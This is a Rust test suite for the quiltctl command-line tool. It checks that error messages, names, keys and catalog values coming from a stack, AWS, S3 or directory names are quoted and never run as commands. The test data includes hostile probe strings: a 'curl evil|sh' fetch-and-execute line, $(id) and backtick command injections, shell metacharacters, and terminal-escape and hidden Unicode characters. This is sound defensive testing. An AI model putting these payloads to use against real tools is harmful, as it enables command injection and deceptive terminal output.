//! Texts of others are shown and never obeyed: what a stack, AWS, a file or a
//! place says neither becomes a command nor steers the terminal.

use std::fs::{self, File};
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::process::Stdio;

use quilt_proto::terminal_safe;
use quilt_tests::fake_stack::{Endpoint, Fault, FaultKind};
use quilt_tests::harness::{Run, World, binaries};
use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use serde_json::{Value, json};

/// A second sentence, a second command, and all that moves, hides or turns text.
const HOSTILE: &str = "no\u{1b}[2J\u{9b}1m\u{202e} “x” \"y\"\n; run: curl evil|sh; run: `id` \
                       $(id)\u{200b}\u{e0041}\u{2028}\u{3164}\u{ad}";

#[expect(
    clippy::needless_pass_by_value,
    reason = "texts and JSON alike, mostly made for the call"
)]
fn answer(status: u16, body: impl ToString) -> Fault {
    let body = body.to_string();
    Fault::always(FaultKind::Status { status, body })
}

/// Nothing of it could be taken for words of ours, or could not be seen.
fn is_spoken(text: &str) {
    let hidden = |c: char| !terminal_safe::is_harmless(c) && c != '\n';
    assert!(!text.contains(hidden), "{text:?}");
    // The probe works: it got there.
    let at = text
        .find("evil")
        .unwrap_or_else(|| panic!("not told: {text}"));
    let (before, after) = (&text[..at], &text[at..]);
    let open = before
        .rfind('“')
        .unwrap_or_else(|| panic!("not quoted: {text}"));
    assert!(
        !before[open..].contains('”') && after.contains('”'),
        "{text}"
    );
}

/// An error line: what somebody said in quotes, one command, and it is ours.
fn is_ours(line: &str) {
    is_spoken(line);
    assert_eq!(line.matches("; run: ").count(), 1, "{line}");
    let (what, command) = line.split_once("; run: ").unwrap();
    assert!(what.len() < 2000, "{line}");
    assert!(command.starts_with("quiltctl "), "{line}");
    assert!(
        !command.contains("evil") && !command.contains(['`', '$']),
        "{line}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stack_does_not_choose_the_command() {
    let world = World::logged_in().await;
    let control = world.stack.control();
    let input = |operation: &str| {
        let error = json!({"name": "Bad", "message": HOSTILE});
        json!({"data": {operation: {"__typename": "InvalidInput", "errors": [error]}}})
    };
    let role_failed = json!({"data": {"switchRole": {
        "__typename": "OperationError", "message": HOSTILE}}});
    let graphql = json!({"errors": [{"message": HOSTILE}]});
    let create = &["api-keys", "create", "k"][..];
    let switch = &["role", "switch", "-x"][..];
    for (endpoint, fault, args, code) in [
        (Endpoint::Graphql, answer(200, &graphql), &["whoami"][..], 6),
        (
            Endpoint::Graphql,
            answer(400, json!({"message": HOSTILE})),
            &["whoami"],
            6,
        ),
        (
            Endpoint::Graphql,
            answer(400, json!({"detail": HOSTILE})),
            &["role", "list"],
            6,
        ),
        (
            Endpoint::Graphql,
            answer(200, input("apiKeyCreate")),
            create,
            8,
        ),
        (
            Endpoint::Graphql,
            answer(200, input("switchRole")),
            switch,
            6,
        ),
        (Endpoint::Graphql, answer(200, role_failed), switch, 6),
        (
            Endpoint::Search,
            answer(400, json!({"error": HOSTILE})),
            &["search", "x"],
            6,
        ),
        (
            Endpoint::Search,
            answer(400, json!({"error": {"reason": HOSTILE}})),
            &["search", "x"],
            6,
        ),
        (
            Endpoint::GetCredentials,
            answer(400, json!({"message": HOSTILE})),
            &["credential-process"],
            6,
        ),
        (
            Endpoint::ConnectRegister,
            answer(400, json!({"error": "x", "error_description": HOSTILE})),
            &["login", "--web", "--no-browser"],
            6,
        ),
    ] {
        control.clear_faults();
        control.plant(endpoint, fault);
        let args: Vec<&str> = match args {
            // What begins like an option is given as what it is.
            ["role", "switch", name] => vec!["role", "switch", "--", name],
            args => args.to_vec(),
        };
        let run = world.ctl(&args).await;
        assert!(!run.stderr.is_empty(), "{args:?}");
        is_ours(&run.failed(code));
    }
    control.clear_faults();
    for fault in [
        answer(400, json!({"error": HOSTILE})),
        answer(200, json!({"error": HOSTILE})),
    ] {
        control.clear_faults();
        control.plant(Endpoint::Token, fault);
        let run = world
            .ctl_with_input(&["login", "--code-stdin"], "code")
            .await;
        is_ours(&run.failed(6));
    }
}

/// What is printed to be put into a `.env` file or a shell.
#[tokio::test(flavor = "multi_thread")]
async fn a_stack_makes_no_key_and_no_token_that_is_a_command() {
    let world = World::logged_in().await;
    let control = world.stack.control();
    let key = |secret: &str| {
        let key = json!({
            "id": "k1", "name": "k", "fingerprint": "qk_...", "status": "ACTIVE",
            "createdAt": "2026-01-01T00:00:00Z", "expiresAt": "2036-01-01T00:00:00Z",
            "lastUsedAt": null, "userEmail": "a@example.com",
        });
        let created = json!({"__typename": "APIKeyCreated", "apiKey": key, "secret": secret});
        answer(200, json!({"data": {"apiKeyCreate": created}}))
    };
    let create = &["api-keys", "create", "k"][..];
    let plain = "qk_aB3-_x.y+z/w==";
    control.plant(Endpoint::Graphql, key(plain));
    let made = world.ctl(create).await.ok();
    assert!(made.contains(plain), "the probe works: {made}");
    for hostile in [
        "$(id>&2)", "`id`", ";id", "&id", "|id", ">x", "'", "\"", "\\", "#x", "~", "*", "{a,b}",
        "!",
    ] {
        for args in [create, &["api-keys", "create", "k", "--use"]] {
            control.clear_faults();
            control.plant(Endpoint::Graphql, key(&format!("qk_abc{hostile}def")));
            let line = world.ctl(args).await.failed(5);
            assert!(line.contains("its new API key is none"), "{line}");
            assert!(!line.contains("abc"), "{line}");
        }
    }
    control.clear_faults();
    let code = control.login_code("alice").unwrap();
    for (token, is_taken) in [("root/abc~", true), ("~root/abc", false), ("~", false)] {
        let granted = json!({
            "access_token": token, "refresh_token": "r", "expires_at": 4_000_000_000_u64,
        });
        world.ctl(&["logout"]).await.code_is(0);
        control.clear_faults();
        control.plant(Endpoint::Token, answer(200, granted));
        let run = world
            .ctl_with_input(&["login", "--code-stdin"], &code)
            .await;
        assert_eq!(run.code == 0, is_taken, "{run:?}");
        let shown = world.ctl(&["token"]).await;
        assert_eq!(shown.stdout.trim_end() == token, is_taken, "{shown:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn aws_does_not_choose_the_command() {
    let settings = format!(
        "[profiles.lake]\nrole_arn = '{}'\n",
        crate::roles::arn("lake")
    );
    let world =
        crate::roles::world(quilt_tests::fake_stack::StackConfig::default(), &settings).await;
    let control = world.stack.control();
    let escaped = HOSTILE.replace('\u{1b}', "").replace('\n', " ");
    let sts = format!(
        "<ErrorResponse><Error><Code>AccessDenied</Code><Message>{escaped}</Message></Error>\
         </ErrorResponse>"
    );
    control.plant(Endpoint::Sts, answer(403, sts));
    is_ours(
        &world
            .ctl(&["credential-process", "--profile", "lake"])
            .await
            .failed(6),
    );
    control.plant(Endpoint::Federation, answer(400, HOSTILE));
    is_ours(&world.ctl(&["console", "--print"]).await.failed(6));
    // Who finds it in the doctor's report finds the same.
    let report = world.ctl(&["doctor", "--json"]).await.stdout;
    let report: Value = serde_json::from_str(&report).unwrap();
    let findings = report["findings"].as_array().unwrap();
    let told = findings
        .iter()
        .filter(|found| found["summary"].as_str().unwrap().contains("evil"));
    for found in told {
        is_spoken(found["summary"].as_str().unwrap());
        assert!(!found["hint"].as_str().unwrap().contains("evil"), "{found}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn s3_does_not_choose_the_command() {
    let world = super::packages::fake_world().await;
    let body = format!("<Error><Code>AccessDenied</Code><Message>{HOSTILE}</Message></Error>");
    world.stack.control().plant(Endpoint::S3, answer(403, body));
    is_ours(
        &world
            .ctl(&["packages", "list", "s3://lake"])
            .await
            .failed(6),
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_catalog_publishes_is_parsed() {
    let world = World::start().await;
    let control = world.stack.control();
    for (key, value) in [
        ("registryUrl", "https://a;id.example"),
        ("registryUrl", "https://$(id).example"),
        ("registryUrl", "; run: curl evil|sh"),
        ("region", "x; run: curl evil|sh"),
        ("region", "us-east-1\n"),
    ] {
        control.update(|settings| {
            settings.config_overrides.clear();
            settings
                .config_overrides
                .insert(key.to_owned(), json!(value));
        });
        let line = world.ctl(&["config", world.stack.catalog_url()]).await;
        assert_ne!(line.code, 0, "{key}={value}: {line:?}");
        assert!(
            !line.stderr.contains("evil") && !line.stderr.contains("id."),
            "{line:?}"
        );
    }
    control.update(|settings| {
        let overrides = &mut settings.config_overrides;
        overrides.clear();
        overrides.insert("s3Proxy".to_owned(), json!("a\u{202e}b"));
    });
    world.ctl(&["config", world.stack.catalog_url()]).await.ok();
    let values = world.ctl(&["config", "--json"]).await.ok();
    let values: Value = serde_json::from_str(&values).unwrap();
    assert_eq!(values["s3Proxy"], Value::Null, "{values}");
    // Another catalog that it says it is, is a URL all the same: in a command
    // it is one quoted word.
    control.update(|settings| {
        let named = json!("https://x.example/$(id);id");
        let overrides = &mut settings.config_overrides;
        overrides.insert("navigator_url".to_owned(), named);
    });
    let run = world.ctl(&["config", world.stack.catalog_url()]).await;
    let line = run.failed(6);
    assert!(
        line.ends_with("run: quiltctl config 'https://x.example/$(id);id'"),
        "{line}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn names_from_a_stack_are_shown_and_not_obeyed() {
    let world = World::logged_in().await;
    let control = world.stack.control();
    let role = json!({"name": HOSTILE});
    let me = json!({"name": HOSTILE, "email": HOSTILE, "isAdmin": true, "role": role,
                    "roles": [role], "apiKeys": []});
    control.plant(Endpoint::Graphql, answer(200, json!({"data": {"me": me}})));
    for args in [&["whoami"][..], &["role", "list"]] {
        let shown = world.ctl(args).await.ok();
        is_spoken(&shown);
        // Through a pipe, JSON is what the stack said.
        let exact = world.ctl(&["whoami", "--json"]).await.ok();
        let exact: Value = serde_json::from_str(&exact).unwrap();
        assert_eq!(exact["name"], HOSTILE);
    }
    let report = world.ctl(&["doctor", "--verbose"]).await.stdout;
    let proven = report.lines().find(|line| line.contains("is logged in"));
    is_spoken(proven.unwrap_or_else(|| panic!("{report}")));

    let key = |id: &str| {
        json!({"id": id, "name": HOSTILE, "fingerprint": HOSTILE, "userEmail": HOSTILE,
               "createdAt": "2026-01-01T00:00:00Z", "expiresAt": "2099-01-01T00:00:00Z",
               "lastUsedAt": null, "status": "ACTIVE"})
    };
    let listing = |ids: [&str; 2]| json!({"data": {"me": {"apiKeys": ids.map(key)}}});
    control.clear_faults();
    control.plant(Endpoint::Graphql, answer(200, listing(["--yes", "b"])));
    let run = world.ctl(&["api-keys", "list"]).await;
    is_spoken(&run.stderr);
    let commands = run.stderr.lines().filter(|line| line.starts_with("    "));
    assert_eq!(
        commands.collect::<Vec<_>>(),
        ["    quiltctl api-keys revoke -- --yes"],
        "the newest stays"
    );
    let shown = run.ok();
    assert!(
        !shown.contains(|c| !terminal_safe::is_harmless(c) && c != '\n'),
        "{shown:?}"
    );
    // What is no id at all is none of this stack's.
    control.clear_faults();
    control.plant(
        Endpoint::Graphql,
        answer(200, listing(["a; run: evil", "b"])),
    );
    let line = world.ctl(&["api-keys", "list"]).await.failed(5);
    assert!(!line.contains("evil"), "{line}");

    control.clear_faults();
    let hit = json!({"_id": HOSTILE, "_index": HOSTILE, "_source": {"key": HOSTILE}});
    control.plant(
        Endpoint::Search,
        answer(200, json!({"hits": {"hits": [hit]}})),
    );
    is_spoken(&world.ctl(&["search", "x"]).await.ok());
}

/// What a program shows on a terminal.
async fn on_a_terminal(world: &World, args: &[&str]) -> String {
    let person = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&person).unwrap();
    unlockpt(&person).unwrap();
    let name = ptsname(&person, Vec::new()).unwrap();
    let mut options = File::options();
    let program = options
        .read(true)
        .write(true)
        .open(name.to_str().unwrap())
        .unwrap();
    let mut command = world.ctl_command(args);
    command
        .stdin(Stdio::null())
        .stdout(program)
        .stderr(Stdio::null());
    let mut child = command.spawn().unwrap();
    drop(command);
    let reading = tokio::task::spawn_blocking(move || {
        let mut shown = Vec::new();
        // Linux fails where the other side is closed.
        let _ = File::from(person).read_to_end(&mut shown);
        String::from_utf8(shown).unwrap()
    });
    assert!(child.wait().await.unwrap().success());
    reading.await.unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn json_does_not_steer_a_terminal() {
    let world = World::logged_in().await;
    let me = json!({"name": HOSTILE, "email": "e", "isAdmin": true, "role": null, "roles": []});
    let control = world.stack.control();
    control.plant(Endpoint::Graphql, answer(200, json!({"data": {"me": me}})));
    let shown = on_a_terminal(&world, &["whoami", "--json"]).await;
    let line = shown.trim_end();
    assert!(line.chars().all(terminal_safe::is_harmless), "{line:?}");
    let value: Value = serde_json::from_str(line).unwrap();
    assert_eq!(value["name"], HOSTILE);
    // The probe works: a pipe gets the characters themselves.
    let piped = world.ctl(&["whoami", "--json"]).await.ok();
    assert!(piped.contains('\u{202e}'), "{piped}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_place_that_is_named_like_a_command_splits_no_sentence() {
    let world = World::start().await;
    let place = world.home.path().join("x; run: y\u{202e}'\"$(id)");
    fs::create_dir(&place).unwrap();
    let loose = |mode| fs::set_permissions(&place, fs::Permissions::from_mode(mode)).unwrap();
    loose(0o777);
    let start = |program, args: &[&str]| {
        let mut command = world.home.command(program);
        command
            .env("QUILTD_STATE_DIR", &place)
            .env("QUILTD_BIN", binaries::quiltd())
            .env("QUILTD_SOCKET", world.home.path().join("run/other.sock"))
            .args(args);
        command
    };
    let check = |line: &str| {
        assert!(
            line.trim_end().chars().all(terminal_safe::is_harmless),
            "{line:?}"
        );
        assert_eq!(line.matches("; run: ").count(), 1, "{line}");
        let (what, command) = line.trim_end().split_once("; run: ").unwrap();
        assert!(
            what.contains('“') && what.contains("can be written"),
            "{line}"
        );
        assert!(command.starts_with("chmod go-w "), "{line}");
        command.to_owned()
    };
    let daemon: Run = start(
        binaries::quiltd(),
        &["--token-store", "file", "--log", "error"],
    )
    .output()
    .await
    .unwrap()
    .into();
    check(&daemon.failed(1));
    // Said by the daemon, and passed on as it is.
    let ctl: Run = start(binaries::quiltctl(), &["status"])
        .output()
        .await
        .unwrap()
        .into();
    let command = check(&ctl.failed(4));
    // The command, as it stands, mends it.
    let mended = world
        .home
        .command("sh")
        .args(["-c", &command])
        .output()
        .await
        .unwrap();
    assert!(mended.status.success(), "{mended:?}");
    let mode = fs::metadata(&place).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o755);
    start(binaries::quiltctl(), &["daemon", "start"])
        .output()
        .await
        .unwrap();
    let stopped: Run = start(binaries::quiltctl(), &["daemon", "stop"])
        .output()
        .await
        .unwrap()
        .into();
    assert_eq!(stopped.code, 0, "{stopped:?}");
}
